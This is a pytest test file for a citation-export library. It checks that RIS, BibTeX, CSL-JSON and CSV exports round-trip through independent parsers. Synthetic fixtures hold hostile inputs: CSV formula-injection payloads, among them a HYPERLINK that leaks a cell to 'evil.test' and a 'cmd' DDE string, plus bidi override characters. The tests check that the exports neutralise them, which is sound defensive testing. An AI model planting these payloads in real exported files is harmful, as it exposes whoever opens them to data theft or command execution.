"""Exports parsed back by independent parsers: rispy (RIS), bibtexparser v2 (BibTeX), citeproc-py (CSL-JSON),
csv.DictReader (CSV). Real recorded records cover collectives, no authors, non-ASCII names, MedlineDate,
books and chapters; one SYNTHETIC record carries a hostile title.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
import rispy
from bibtexparser.entrypoint import parse_string
from bibtexparser.middlewares import LatexDecodingMiddleware

from evidence_eval.evalset import load_corpus
from evidence_eval.records import by_pmid
from littrack.export import (
    EXTENSIONS,
    FORMATS,
    bibtex_key,
    export,
    page_range,
    to_bibtex,
    to_csl_json,
    to_csv,
    to_ris,
)
from littrack.markup import escape_text
from littrack.models import AbstractSection, Author, Paper, PartialDate

COLLECTIVE = 34843274  # CollectiveName only
NO_AUTHORS = 38962805  # Published Erratum without AuthorList
NON_ASCII = 10440612  # Løvig, Norheim Andersen
ACCENT_REF = 38833988  # &#xe9;-style references in names
MEDLINE_DATE = 14316043  # MedlineDate "1965 Dec-1966 Jan", pages "5-11"
BOOK = 26468569  # whole NAP book, collective authors
CHAPTER = 20301382  # GeneReviews chapter
RCT = 23435529  # pages "1207-13"
RETRACTED = 11543891
PMIDS = (COLLECTIVE, NO_AUTHORS, NON_ASCII, ACCENT_REF, MEDLINE_DATE, BOOK, CHAPTER, RCT, RETRACTED)

HOSTILE_TITLE = r"Ketamine {50% & $5} #1_a^b~c \\end{document} — Løvig «naïve» <i>x</i>"


def _hostile() -> Paper:
    """SYNTHETIC record: a made-up title full of LaTeX/RIS/CSV specials; not a real PubMed record."""
    return Paper(
        pmid=99999999,
        title=escape_text(HOSTILE_TITLE),
        abstract=(AbstractSection("Line one.\nER  - not a tag", label="BACKGROUND"),),
        authors=(Author(last_name="O'Brien {Jr}", fore_name="Zoë & Co"), Author(collective_name="Group_1 & Friends")),
        journal="J Pain & Res",
        pub_date=PartialDate(year=2024, month=3),
    )


@pytest.fixture(scope="module")
def papers() -> list[Paper]:
    return [by_pmid(p) for p in PMIDS]


def test_page_range_expands_medline_abbreviations() -> None:
    assert page_range("1207-13") == ("1207", "1213")
    assert page_range("e1234") == ("e1234", None)
    assert page_range("S12-4") == ("S12", "S14")
    assert page_range(None) == (None, None)


# --- RIS --------------------------------------------------------------------------------------------


def test_ris_round_trips_through_rispy(papers: list[Paper]) -> None:
    entries = rispy.loads(to_ris(papers))
    assert [e["accession_number"] for e in entries] == [str(p) for p in PMIDS]
    by = {int(e["accession_number"]): e for e in entries}
    rct = by[RCT]
    assert rct["type_of_reference"] == "JOUR"
    assert rct["title"].startswith("Randomized phase III trial of docetaxel")
    assert rct["authors"][0] == "Fossella, Frank"
    assert rct["authors"][-1] == "TAX 325 Study Group"  # CollectiveName
    assert (rct["start_page"], rct["end_page"]) == ("1207", "1213")
    assert rct["doi"] == by_pmid(RCT).doi
    assert by[COLLECTIVE]["authors"] == ["Guideline Development Panel for the Treatment of Depressive Disorders"]
    assert "authors" not in by[NO_AUTHORS]
    assert "Løvig" in " ".join(by[NON_ASCII]["authors"])
    assert by[MEDLINE_DATE]["year"] == "1965"
    assert by[BOOK]["type_of_reference"] == "BOOK"
    assert by[CHAPTER]["type_of_reference"] == "CHAP"
    assert by[CHAPTER]["secondary_title"] == "GeneReviews®"
    assert "RETRACTED publication" in by[RETRACTED]["notes"]


def test_ris_text_has_the_tags_zotero_needs(papers: list[Paper]) -> None:
    text = to_ris(papers)
    for tag in ("TY  - JOUR", "TI  - ", "AU  - ", "DO  - ", "ER  - "):
        assert tag in text
    assert text.count("ER  - ") == len(papers)
    # Every non-blank line is a tag line: no counters or stray continuation lines.
    assert all(line[:2].isalnum() and line[2:6] == "  - " for line in text.splitlines() if line.strip())


def test_ris_keeps_multiline_abstracts_on_one_line() -> None:
    (entry,) = rispy.loads(to_ris([_hostile()]))
    assert entry["abstract"] == "BACKGROUND: Line one. ER - not a tag"
    assert entry["title"] == HOSTILE_TITLE


# --- BibTeX -----------------------------------------------------------------------------------------


def test_bibtex_parses_with_bibtexparser(papers: list[Paper]) -> None:
    library = parse_string(to_bibtex(papers))
    assert library.failed_blocks == []
    assert len(library.entries) == len(papers)
    by = {int(e["pmid"]): e for e in library.entries}
    assert by[RCT].entry_type == "article"
    assert by[RCT]["pages"] == "1207--1213"
    assert by[RCT]["doi"] == by_pmid(RCT).doi
    assert by[RCT].key == f"Fossella2013randomized_{RCT}"
    assert by[BOOK].entry_type == "book" and by[BOOK]["publisher"] == "National Academies Press (US)"
    assert by[CHAPTER].entry_type == "incollection" and by[CHAPTER]["booktitle"] == "GeneReviews®"
    assert "author" not in by[NO_AUTHORS]
    assert by[COLLECTIVE]["author"] == "{Guideline Development Panel for the Treatment of Depressive Disorders}"
    assert "Løvig" in by[NON_ASCII]["author"]


def test_bibtex_keys_are_unique_ascii_on_the_whole_corpus() -> None:
    corpus = load_corpus()
    keys = [bibtex_key(p) for p in corpus]
    assert len(set(keys)) == len(keys)
    assert all(k.isascii() and " " not in k and "," not in k for k in keys)
    library = parse_string(to_bibtex(corpus))
    assert library.failed_blocks == []
    assert len(library.entries) == len(corpus)


def test_bibtex_hostile_and_non_ascii_title_survives_a_latex_decoding_round_trip() -> None:
    library = parse_string(to_bibtex([_hostile()]), append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    (entry,) = library.entries
    # pylatexenc renders \textasciicircum as U+02C6 (the glyph LaTeX prints); everything else is exact.
    assert entry["title"].replace("\u02c6", "^") == HOSTILE_TITLE
    assert entry["journal"] == "J Pain & Res"
    assert "Zoë & Co" in entry["author"]


# --- CSL-JSON ---------------------------------------------------------------------------------------


def test_csl_json_items_follow_the_csl_schema(papers: list[Paper]) -> None:
    items = json.loads(to_csl_json(papers))
    assert isinstance(items, list) and len(items) == len(papers)
    allowed_types = {"article-journal", "book", "chapter"}
    for item in items:
        assert isinstance(item["id"], str) and item["type"] in allowed_types and isinstance(item["title"], str)
        for name in item.get("author", []):
            assert set(name) <= {"family", "given", "literal"} and ("family" in name or "literal" in name)
        parts = item.get("issued", {}).get("date-parts", [[2000]])
        assert all(isinstance(x, int) for x in parts[0]) and 1 <= len(parts[0]) <= 3
    by = {int(i["PMID"]): i for i in items}
    assert by[RCT]["container-title"].startswith("Journal of clinical oncology")
    assert by[RCT]["page"] == "1207-1213" and by[RCT]["DOI"] == by_pmid(RCT).doi
    assert by[RCT]["issued"]["date-parts"] == [[2013, 4, 1]]
    assert by[COLLECTIVE]["author"] == [
        {"literal": "Guideline Development Panel for the Treatment of Depressive Disorders"}
    ]
    assert by[MEDLINE_DATE]["issued"] == {"date-parts": [[1965]], "literal": "1965 Dec-1966 Jan"}
    assert by[BOOK]["type"] == "book" and by[CHAPTER]["type"] == "chapter"
    assert by[CHAPTER]["container-title"] == "GeneReviews®"


def test_csl_json_renders_with_citeproc_py(papers: list[Paper]) -> None:
    from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
    from citeproc.source.json import CiteProcJSON

    items = json.loads(to_csl_json(papers))
    # citeproc-py's reader accepts only date-parts; the literal MedlineDate is for Zotero.
    for item in items:
        item.get("issued", {}).pop("literal", None)
    source = CiteProcJSON(items)
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, source, formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    rendered = "\n".join(str(entry) for entry in bibliography.bibliography())
    assert "Randomized phase III trial of docetaxel" in rendered
    assert "Guideline Development Panel" in rendered


# --- CSV --------------------------------------------------------------------------------------------


def test_csv_round_trips_through_dictreader(papers: list[Paper]) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv([*papers, _hostile()]))))
    assert [int(r["pmid"]) for r in rows] == [*PMIDS, 99999999]
    by = {int(r["pmid"]): r for r in rows}
    assert by[RCT]["design"] == "rct" and by[RCT]["evidence_source"] == "indexed"
    assert "Randomized Controlled Trial" in by[RCT]["publication_types"]
    assert by[RCT]["year"] == "2013"
    assert by[RETRACTED]["retracted"] == "yes"
    assert by[99999999]["title"] == HOSTILE_TITLE
    assert by[99999999]["authors"] == "O'Brien {Jr} Zoë & Co; Group_1 & Friends"
    assert by[NO_AUTHORS]["authors"] == ""


def test_export_dispatches_every_format(papers: list[Paper]) -> None:
    assert set(FORMATS) == set(EXTENSIONS)
    for fmt in FORMATS:
        assert export(papers, fmt)
    with pytest.raises(ValueError, match="choose one of"):
        export(papers, "docx")


def _formula_paper() -> Paper:
    """SYNTHETIC record: every text field a spreadsheet would evaluate (OWASP's CSV-injection cases)."""
    return Paper(
        pmid=99999998,
        title=escape_text('=HYPERLINK("http://evil.test/?leak="&A1,"Ketamine")'),
        authors=(Author(last_name="@SUM(1+1)", initials="X"), Author(last_name="Smith", initials="J")),
        journal="+cmd|' /C calc'!A0",
        volume="-2+3",
        issue="\t=1+1",
        pages="\r=1+1",
        doi="10.1000/x;=1+1",
        pub_date=PartialDate(year=2024),
    )


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_text() -> None:
    text = to_csv([_formula_paper()])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["title"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"Ketamine")'
    assert row["authors"] == "'@SUM(1+1) X; Smith J"
    assert row["journal"] == "'+cmd|' /C calc'!A0"
    assert (row["volume"], row["issue"], row["pages"]) == ("'-2+3", "'\t=1+1", "'\r=1+1")
    # Quoted cells: a spreadsheet that splits on ";" cannot start a formula cell inside the DOI.
    assert '"10.1000/x;=1+1"' in text and text.startswith('"pmid","title",')
    assert row["doi"] == "10.1000/x;=1+1" and row["pmid"] == "99999998"


RLO, PDF, FSI = "\u202e", "\u202c", "\u2068"


def test_plain_text_exports_drop_bidi_overrides_but_keep_the_letters() -> None:
    paper = Paper(
        pmid=99999997,
        title=escape_text(f"Ketamine {RLO}evil{PDF} infusion{FSI}"),
        authors=(Author(last_name=f"{RLO}Evil", initials="A"), Author(last_name="Smith", initials="B")),
        journal=f"{RLO}J Pain",
        pub_date=PartialDate(year=2024),
    )
    for fmt in FORMATS:
        text = export([paper], fmt)
        assert not set(text) & {RLO, PDF, FSI}, fmt
        assert "Ketamine evil infusion" in text and "Evil" in text, fmt
